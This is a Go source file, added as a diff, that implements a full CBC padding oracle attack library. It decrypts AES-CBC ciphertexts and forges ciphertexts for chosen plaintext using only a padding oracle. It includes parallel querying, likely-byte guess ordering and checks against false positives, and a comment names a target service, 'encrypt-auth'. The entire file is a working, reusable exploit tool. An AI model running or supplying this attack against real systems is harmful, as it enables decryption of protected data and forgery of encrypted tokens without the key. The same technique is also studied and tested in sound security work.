@@ -0,0 +1,367 @@
+package paddingoracle
+
+import (
+	"crypto/rand"
+	"errors"
+	"fmt"
+	"sync"
+	"sync/atomic"
+	"time"
+)
+
+// BlockSize is the AES block size the attack works in.
+const BlockSize = 16
+
+// ErrNoGuess is returned when the oracle rejects every value of a byte,
+// e.g. because it does not behave as a padding oracle at all.
+var ErrNoGuess = errors.New("paddingoracle: the oracle accepted no guess")
+
+// ErrNotOracle is returned when the oracle accepts a guess that gives a
+// last byte of 00, which no padding allows, e.g. because the target
+// checks a MAC before the padding and rejects every guess the same way.
+var ErrNotOracle = errors.New("paddingoracle: the oracle accepted invalid padding")
+
+// ErrLength is returned for a ciphertext that is not IV || blocks.
+var ErrLength = errors.New("paddingoracle: ciphertext is not a whole number of blocks")
+
+// ErrPadding is returned by Unpad when the recovered plaintext does not
+// end in valid padding.
+var ErrPadding = errors.New("paddingoracle: recovered plaintext is not validly padded")
+
+// BlockError reports the block, counting from 1 after the IV, and the
+// byte within it, counting from 0, that the attack could not recover.
+// DecryptBlock and Intermediate do not know where their block sits and
+// leave Block 0.
+type BlockError struct {
+	Block int
+	Byte  int
+	Err   error
+}
+
+func (e *BlockError) Error() string {
+	return fmt.Sprintf("block %d byte %d: %v", e.Block, e.Byte, e.Err)
+}
+
+// Unwrap returns the underlying error, e.g. ErrNoGuess.
+func (e *BlockError) Unwrap() error {
+	return e.Err
+}
+
+// likelyBytes are the plaintext bytes tried first, roughly most common
+// first: English text, digits and punctuation, then padding values.
+const likelyBytes = " etaoinshrdlcumwfgypbvkjxqzETAOINSHRDLCUMWFGYPBVKJXQZ0123456789.,'\"!?-:;()\n\r\t" +
+	"\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10"
+
+// guessOrder is every byte value, likelyBytes first and then the rest of
+// printable ASCII before everything else.
+var guessOrder = func() []byte {
+	order := make([]byte, 0, 256)
+	seen := make([]bool, 256)
+	add := func(b byte) {
+		if !seen[b] {
+			seen[b] = true
+			order = append(order, b)
+		}
+	}
+	for i := 0; i < len(likelyBytes); i++ {
+		add(likelyBytes[i])
+	}
+	for b := 0x20; b < 0x7f; b++ {
+		add(byte(b))
+	}
+	for b := 0; b < 256; b++ {
+		add(byte(b))
+	}
+	return order
+}()
+
+// BlockStats records what recovering one block cost.
+type BlockStats struct {
+	Block   int
+	Queries int
+	Time    time.Duration
+}
+
+// Attack runs the attack against Oracle. Guesses are ordered so that the
+// likeliest plaintext bytes are tried first, and up to Workers queries
+// are in flight at once: independent blocks are attacked in parallel and
+// each byte's guesses go out in batches of Workers. Workers of zero or
+// one queries the oracle one guess at a time. The oracle must be safe for
+// concurrent use when Workers is more than one, as all of this package's
+// oracles are.
+type Attack struct {
+	Oracle  Oracle
+	Workers int
+
+	// Stats holds a record per block after Decrypt or Encrypt, in block
+	// order.
+	Stats []BlockStats
+
+	queries int64
+	once    sync.Once
+	sem     chan struct{}
+}
+
+// Queries returns the number of oracle queries made so far.
+func (a *Attack) Queries() int {
+	return int(atomic.LoadInt64(&a.queries))
+}
+
+func (a *Attack) workers() int {
+	if a.Workers < 1 {
+		return 1
+	}
+	return a.Workers
+}
+
+// query sends C to the oracle once a worker is free.
+func (a *Attack) query(C []byte) (bool, error) {
+	a.once.Do(func() { a.sem = make(chan struct{}, a.workers()) })
+	a.sem <- struct{}{}
+	defer func() { <-a.sem }()
+	atomic.AddInt64(&a.queries, 1)
+	return a.Oracle.Query(C)
+}
+
+// DecryptBlock recovers the plaintext of block C, whose predecessor (or
+// IV) is CPrev: D(C) ⊕ CPrev.
+func (a *Attack) DecryptBlock(C []byte, CPrev []byte) ([]byte, error) {
+	inter, _, err := a.intermediate(C, CPrev)
+	if err != nil {
+		return nil, err
+	}
+	for i := 0; i < BlockSize; i++ {
+		inter[i] = inter[i] ^ CPrev[i]
+	}
+	return inter, nil
+}
+
+// Intermediate recovers D(C), the block cipher's decryption of block C.
+func (a *Attack) Intermediate(C []byte) ([]byte, error) {
+	inter, _, err := a.intermediate(C, make([]byte, BlockSize))
+	return inter, err
+}
+
+// intermediate recovers D(C) and counts the queries it took. It sends
+// guess || C to the oracle, working from the last byte of guess to the
+// first: once the padding is valid, guess ⊕ pad is D(C). CPrev only
+// orders the guesses, so that the plaintext D(C) ⊕ CPrev they would give
+// comes out in guessOrder. Errors are *BlockError with Block left 0 for
+// the caller to fill in.
+//
+// On the last byte a guess can also pass because the plaintext it gives
+// ends in 02 02 or 03 03 03 rather than 01. Each guess that passes there
+// is queried again with the byte before it flipped, which only genuine 01
+// padding survives. The guess that survives is then sent with its last
+// byte turned into 00, which the oracle must reject.
+func (a *Attack) intermediate(C []byte, CPrev []byte) ([]byte, int, error) {
+
+	// Intermediate block
+	inter := make([]byte, BlockSize)
+
+	// Guess for the previous block
+	guess := make([]byte, BlockSize)
+
+	// Current byte
+	curr := byte(1)
+
+	queries := 0
+	batch := a.workers()
+	accepted := make([]bool, batch)
+	errs := make([]error, batch)
+	queried := make([][]byte, batch)
+
+	// Loop from the last byte to the first byte
+	for i := BlockSize - 1; i >= 0; i-- {
+		found := false
+		for start := 0; start < len(guessOrder) && !found; start += batch {
+			end := start + batch
+			if end > len(guessOrder) {
+				end = len(guessOrder)
+			}
+
+			// Call the Oracle with the whole batch at once
+			var wg sync.WaitGroup
+			for k := start; k < end; k++ {
+				q := append(append([]byte{}, guess...), C...)
+				q[i] = guessOrder[k] ^ curr ^ CPrev[i]
+				queried[k-start] = q
+				wg.Add(1)
+				go func(k int, q []byte) {
+					defer wg.Done()
+					accepted[k-start], errs[k-start] = a.query(q)
+				}(k, q)
+			}
+			wg.Wait()
+			queries += end - start
+
+			for k := start; k < end && !found; k++ {
+				if errs[k-start] != nil {
+					return nil, queries, &BlockError{Byte: i, Err: errs[k-start]}
+				}
+				if accepted[k-start] && i == BlockSize-1 {
+					q := append([]byte{}, queried[k-start]...)
+					q[i-1] ^= 0xff
+					ok, err := a.query(q)
+					queries++
+					if err != nil {
+						return nil, queries, &BlockError{Byte: i, Err: err}
+					}
+					if ok {
+						q[i-1] ^= 0xff
+						q[i] ^= 1
+						zero, err := a.query(q)
+						queries++
+						if err != nil {
+							return nil, queries, &BlockError{Byte: i, Err: err}
+						}
+						if zero {
+							return nil, queries, &BlockError{Byte: i, Err: ErrNotOracle}
+						}
+					}
+					accepted[k-start] = ok
+				}
+				if accepted[k-start] {
+					inter[i] = guessOrder[k] ^ CPrev[i]
+					curr++
+					for j := BlockSize - 1; j >= i; j-- {
+						guess[j] = curr ^ inter[j]
+					}
+					found = true
+				}
+			}
+		}
+		if !found {
+			return nil, queries, &BlockError{Byte: i, Err: ErrNoGuess}
+		}
+	}
+	return inter, queries, nil
+}
+
+// Decrypt recovers the plaintext of C = IV || C1 || ... || Cn, padding
+// and all. Each block only needs itself and its predecessor, so all of
+// them are attacked at once. On failure it returns the blocks before the
+// first one that could not be recovered.
+func (a *Attack) Decrypt(C []byte) ([]byte, error) {
+	if len(C) < 2*BlockSize || len(C)%BlockSize != 0 {
+		return nil, ErrLength
+	}
+
+	n := len(C)/BlockSize - 1
+	blocks := make([][]byte, n)
+	errs := make([]error, n)
+	a.Stats = make([]BlockStats, n)
+
+	var wg sync.WaitGroup
+	for b := 0; b < n; b++ {
+		wg.Add(1)
+		go func(b int) {
+			defer wg.Done()
+			start := time.Now()
+			prev := C[b*BlockSize : (b+1)*BlockSize]
+			inter, queries, err := a.intermediate(C[(b+1)*BlockSize:(b+2)*BlockSize], prev)
+			if e, ok := err.(*BlockError); ok {
+				e.Block = b + 1
+			} else if err == nil {
+				for i := 0; i < BlockSize; i++ {
+					inter[i] = inter[i] ^ prev[i]
+				}
+			}
+			blocks[b], errs[b] = inter, err
+			a.Stats[b] = BlockStats{Block: b + 1, Queries: queries, Time: time.Since(start)}
+		}(b)
+	}
+	wg.Wait()
+
+	plaintext := make([]byte, 0, n*BlockSize)
+	for b := 0; b < n; b++ {
+		if errs[b] != nil {
+			return plaintext, errs[b]
+		}
+		plaintext = append(plaintext, blocks[b]...)
+	}
+	return plaintext, nil
+}
+
+// Encrypt forges a ciphertext for the plaintext M using nothing but the
+// oracle (CBC-R). It picks a random last block Cn and works backwards:
+// D(Ci) comes from the oracle, and C(i-1) = D(Ci) ⊕ Pi makes Ci decrypt
+// to Pi. The block before the first is the IV. M is padded with Pad.
+// Every block depends on the next, so only the guesses within a byte run
+// in parallel.
+//
+// The result decrypts to M under the target's key, but the target's MAC,
+// if it has one, still has to be forged separately.
+func (a *Attack) Encrypt(M []byte) ([]byte, error) {
+	P := Pad(append([]byte{}, M...))
+	n := len(P) / BlockSize
+
+	C := make([]byte, (n+1)*BlockSize)
+	if _, err := rand.Read(C[n*BlockSize:]); err != nil {
+		return nil, err
+	}
+	a.Stats = make([]BlockStats, n)
+	for i := n; i > 0; i-- {
+		start := time.Now()
+		inter, queries, err := a.intermediate(C[i*BlockSize:(i+1)*BlockSize], make([]byte, BlockSize))
+		a.Stats[i-1] = BlockStats{Block: i, Queries: queries, Time: time.Since(start)}
+		if e, ok := err.(*BlockError); ok {
+			e.Block = i
+		}
+		if err != nil {
+			return nil, err
+		}
+		for j := 0; j < BlockSize; j++ {
+			C[(i-1)*BlockSize+j] = inter[j] ^ P[(i-1)*BlockSize+j]
+		}
+	}
+	return C, nil
+}
+
+// DecryptBlock runs Attack.DecryptBlock one query at a time.
+func DecryptBlock(o Oracle, C []byte, CPrev []byte) ([]byte, error) {
+	return (&Attack{Oracle: o}).DecryptBlock(C, CPrev)
+}
+
+// Intermediate runs Attack.Intermediate one query at a time.
+func Intermediate(o Oracle, C []byte) ([]byte, error) {
+	return (&Attack{Oracle: o}).Intermediate(C)
+}
+
+// Decrypt runs Attack.Decrypt one query at a time.
+func Decrypt(o Oracle, C []byte) ([]byte, error) {
+	return (&Attack{Oracle: o}).Decrypt(C)
+}
+
+// Encrypt runs Attack.Encrypt one query at a time.
+func Encrypt(o Oracle, M []byte) ([]byte, error) {
+	return (&Attack{Oracle: o}).Encrypt(M)
+}
+
+// Pad appends PKCS#7 padding to M, as encrypt-auth does: 1 to 16 bytes,
+// each holding the padding length.
+func Pad(M []byte) []byte {
+	n := BlockSize - len(M)%BlockSize
+	for i := 0; i < n; i++ {
+		M = append(M, byte(n))
+	}
+	return M
+}
+
+// Unpad strips the padding and then a tagSize byte tag from a recovered
+// plaintext P, checking every padding byte rather than trusting the last.
+func Unpad(P []byte, tagSize int) ([]byte, error) {
+	if len(P) == 0 {
+		return nil, ErrPadding
+	}
+	n := int(P[len(P)-1])
+	if n == 0 || n > BlockSize || n+tagSize > len(P) {
+		return nil, ErrPadding
+	}
+	for _, b := range P[len(P)-n:] {
+		if int(b) != n {
+			return nil, ErrPadding
+		}
+	}
+	return P[:len(P)-n-tagSize], nil
+}